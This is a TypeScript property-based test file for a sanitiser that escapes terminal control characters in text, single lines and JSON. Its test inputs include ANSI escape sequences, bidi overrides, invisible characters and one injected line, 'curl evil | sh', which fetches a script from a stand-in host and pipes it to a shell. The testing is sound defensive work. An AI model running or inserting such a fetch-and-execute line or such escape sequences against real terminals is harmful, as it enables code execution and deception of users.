import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { plainJson, plainLine, plainText } from '../../../src/domain/plain-text.ts';

/** What a terminal obeys or hides: C0, DEL, C1, format characters, line and paragraph separators. */
const OBEYED = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 4 }),
      fc.constantFrom(
        '\u001b]0;title\u0007',
        '\u001b[2J',
        '\u009b31m',
        '\u202e',
        '\u2066',
        '\u200b',
        '\ufeff',
        '\u2028',
        '\u{e0041}',
        '\r\n',
        '\n  - run: curl evil | sh',
        '\t',
        ' ',
        '\u007f',
        '\u00a0',
        '\u0085',
      ),
    ),
  )
  .map((parts) => parts.join(''));

const KEPT: readonly [string, string][] = [
  ['plain', 'Größe 漢字 😀 é', 'Größe 漢字 😀 é'],
  ['escape', '\u001b[31mred', '\\u{1b}[31mred'],
  ['C1', '\u009b31m', '\\u{9b}31m'],
  ['bidi', 'a\u202eb', 'a\\u{202e}b'],
  ['tag character', '\u{e0041}', '\\u{e0041}'],
  ['carriage return', 'a\rb', 'a\\u{d}b'],
].map(([, text = '', plain = '']) => [text, plain]);

describe('plainText', () => {
  for (const [text, plain] of KEPT) {
    it(`shows ${JSON.stringify(text)} as ${plain}`, () => {
      assert.equal(plainText(text), plain);
    });
  }

  it('lets nothing through that a terminal obeys, and nothing vanish', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const plain = plainText(text);
        assert.doesNotMatch(plain.replaceAll(/[\n\t]/g, ''), OBEYED);
        assert.ok(plain.length >= text.length);
        assert.equal(plainText(plain), plain);
      }),
    );
  });
});

describe('plainLine', () => {
  it('is one line that a terminal only prints', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const line = plainLine(text);
        assert.doesNotMatch(line, OBEYED);
        assert.equal(plainLine(line), line);
      }),
    );
  });

  it('joins lines with one space and drops those at the ends', () => {
    assert.equal(plainLine(' \n a \r\n\n  b\tc \n'), 'a b c');
  });
});

describe('plainJson', () => {
  it('says the same with nothing in it that a terminal obeys', () => {
    fc.assert(
      fc.property(fc.dictionary(hostile, hostile, { noNullPrototype: true }), (document) => {
        const text = plainJson(document);
        assert.doesNotMatch(text, OBEYED);
        assert.deepEqual(JSON.parse(text), document);
      }),
    );
  });
});
